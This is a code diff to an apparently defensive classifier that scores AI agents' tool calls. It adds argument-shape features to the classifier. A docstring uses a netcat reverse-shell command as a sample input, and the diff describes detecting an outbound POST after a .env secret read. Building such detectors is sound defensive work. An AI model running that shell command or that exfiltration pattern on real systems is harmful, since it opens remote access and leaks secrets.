@@ -108,8 +108,23 @@ def _bucket(name: str, buckets: int) -> int:
     return 1 + h % (buckets - 1)
 
 
+_LETTERS_OR_DIGITS = re.compile(r"[A-Za-z]+|[0-9]+")
+#: A value's shape is cut at this many characters; a call's shapes at this many tokens
+#: per argument.
+SHAPE_CHARS, SHAPE_TOKENS = 64, 32
+
+
+def value_shape(text: str) -> str:
+    """``text`` with every run of letters written ``a`` and every run of digits ``0``, the
+    rest kept (``/home/quinn/src/beacon-portal/adapters/codec.rb`` -> ``/a/a/a/a-a/a/a.a``,
+    ``nc -e /bin/sh 10.0.0.7 4444`` -> ``a -a /a/a 0.0.0.0 0``), at most SHAPE_CHARS long:
+    what a value never seen before still shares with the values the gate has learned."""
+    return _LETTERS_OR_DIGITS.sub(lambda m: "a" if m.group()[0].isalpha() else "0",
+                                  text)[:SHAPE_CHARS]
+
+
 def structured_features(context: str, history: Sequence[str] | None, buckets: int,
-                        word_scale: float, cross_scale: float
+                        word_scale: float, cross_scale: float, shape_scale: float = 0.0
                         ) -> tuple[np.ndarray, np.ndarray]:
     """Features of the call's parsed arguments and of the call x its history: (idx, val).
 
@@ -124,6 +139,13 @@ def structured_features(context: str, history: Sequence[str] | None, buckets: in
       naming the call's tool and HTTP method and that file's last component
       (``http.request|POST # fs.read|.env``). A linear logit is a sum, so it cannot say
       "an outbound POST AND a secret read earlier" from the two apart; the cross can.
+    - **Argument shapes** ``s|tool|key|shape`` of every argument value and ``t|tool|key|
+      shape`` of each of its whitespace-separated tokens (`value_shape`; at most
+      SHAPE_TOKENS per argument; value `shape_scale` / sqrt(count)): a file in a project
+      nobody named before (``/home/quinn/src/beacon-portal/adapters/codec.rb``) shares
+      none of its words with the calls the gate learned from, but its shape with all of
+      the project reads; without it the gate scored such calls by the tool's block rate
+      (measured: docs/learning.md, "Argument shapes").
     """
     out: list[tuple[int, float]] = []
     tool, args = _parse_call(context)
@@ -138,6 +160,19 @@ def structured_features(context: str, history: Sequence[str] | None, buckets: in
         if words:
             v = word_scale / np.sqrt(len(words))
             out += [(_bucket(w, buckets), v) for w in words]
+    if shape_scale > 0:
+        shapes: dict[str, None] = {}
+        for key, value in args.items():
+            text = value if isinstance(value, str) else json.dumps(value)
+            names = [f"s|{tool}|{key}|{value_shape(text)}"] + [
+                f"t|{tool}|{key}|{value_shape(token)}"
+                for token in text.split(maxsplit=SHAPE_TOKENS)[:SHAPE_TOKENS]]
+            for name in names:
+                if len(shapes) < MAX_STRUCTURED:
+                    shapes.setdefault(name)
+        if shapes:
+            v = shape_scale / np.sqrt(len(shapes))
+            out += [(_bucket(name, buckets), v) for name in shapes]
     if cross_scale > 0 and history:
         method = args.get("method")
         key = f"x|{tool}|{method if isinstance(method, str) else ''}#"
